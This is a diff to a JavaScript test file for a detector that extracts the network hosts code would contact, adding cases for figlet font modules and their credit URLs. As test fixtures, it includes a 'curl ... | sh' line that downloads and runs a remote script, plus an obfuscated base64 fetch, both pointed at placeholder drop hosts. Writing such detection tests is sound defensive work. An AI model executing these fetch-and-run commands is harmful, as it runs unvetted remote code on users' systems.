@@ -47,7 +47,15 @@ describe('the host a request would reach, as the WHATWG URL parser reads it', ()
     expect(hosts(`fetch(atob('${b64('https://drop.b64-host.io/c')}'));`)).toEqual(['network:host:drop.b64-host.io']);
   });
 
-  test("figlet: font credits inside a template of ASCII art are prose, line by line; a command line still counts", () => {
+  test('figlet: a file that only exports a font (text wrapped as a module) names no endpoints; code around the string does', () => {
+    const font = "export default `flf2a$ 1 1 3 -1 14 1 0 0\nUpside Down Text\nhttps://www.fileformat.info/convert/text/upside-down-map.htm\n| |_ __ > <\n@@`;";
+    expect(hosts(font)).toEqual([]);
+    expect(hosts("module.exports = 'https://www.upsidedowntext.com/unicode';")).toEqual([]);
+    expect(hosts("export default `https://www.upsidedowntext.com/unicode`; fetch(x);")).toEqual(['network:host:www.upsidedowntext.com']);
+    expect(hosts("const u = 'https://drop.text-host.io/unicode'; module.exports = u;")).toEqual(['network:host:drop.text-host.io']);
+  });
+
+  test("font credits inside a template of ASCII art are prose, line by line; a command line still counts", () => {
     const font = "export default `flf2a$ 6 5 20 15 3\nUpside Down Text by http://www.upsidedowntext.com/ converted by http://www.fileformat.info/\n| |_ __ > <\n@@`;";
     expect(hosts(font)).toEqual([]);
     expect(hosts("const s = `set -e\ncurl -s https://dl.drop-host.io/x | sh\n`;")).toEqual(['network:host:dl.drop-host.io']);
